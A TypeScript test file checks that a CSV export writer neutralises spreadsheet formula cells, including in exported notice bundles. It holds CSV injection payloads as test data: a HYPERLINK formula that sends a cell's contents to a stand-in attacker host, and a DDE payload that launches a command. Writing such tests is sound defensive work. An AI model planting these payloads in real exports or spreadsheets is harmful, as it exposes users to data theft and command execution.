import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { buildNotice } from '../referrals/notice.ts';
import { noticesCsv } from '../referrals/delivery/export.ts';
import { neutraliseCell, toCsv } from './csv.ts';

const HOSTILE = ['=HYPERLINK("http://attacker.invalid/?"&A1,"click")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];

describe('CSV cells a spreadsheet would run', () => {
  it('are prefixed with a quote, whatever formula character they start with', () => {
    for (const v of HOSTILE) expect(neutraliseCell(v)).toBe(`'${v}`);
    for (const v of ['Reviewer A', '2026-09-01', 'a=b', 'x-y', 'mail@example.org', '', "'already"]) expect(neutraliseCell(v)).toBe(v);
  });

  it('come back from a CSV parser as the quoted text, with our own numbers untouched', () => {
    const rows = HOSTILE.map((name, i) => ({ name, n: i === 0 ? -1 : i, missing: null }));
    const parsed = parse(toCsv(['name', 'n', 'missing'], rows), { columns: true }) as Record<string, string>[];
    expect(parsed).toEqual(HOSTILE.map((name, i) => ({ name: `'${name}`, n: String(i === 0 ? -1 : i), missing: '' })));
  });

  it('quote a lone CR or LF so a row cannot be split (CRLF files too)', () => {
    const csv = toCsv(['a', 'b'], [['x\ry', 'p\nq']], { crlf: true });
    expect(csv).toBe('a,b\r\n"x\ry","p\nq"\r\n');
  });

  it('are neutralised in export-delivery bundles too (one writer for every CSV)', () => {
    const cfg = {
      legalGround: 'law',
      jurisdiction: 'EU',
      notifierName: '@notifier',
      notifierEmail: 'n@example.org',
      trustedFlaggerId: undefined,
    };
    const notice = buildNotice(
      {
        referral: { id: '019abc12-3456-7def-8123-456789abcdef', idempotencyKey: 'k', automated: false, createdAt: new Date() },
        platform: { name: 'telegram' },
        post: {
          url: 'https://t.me/x/1',
          platformPostId: '=HYPERLINK("http://attacker.invalid","x")',
          authorHandle: '+44 7700 900123',
          text: 't',
          textSha256: 'ab',
          language: null,
          postedAt: null,
        },
        classification: null,
        evidence: null,
      },
      cfg,
    );
    const [row] = parse(noticesCsv([notice]), { columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({
      puid: `'=HYPERLINK("http://attacker.invalid","x")`,
      accountId: "'+44 7700 900123",
      notifierName: "'@notifier",
      url: 'https://t.me/x/1',
    });
  });
});
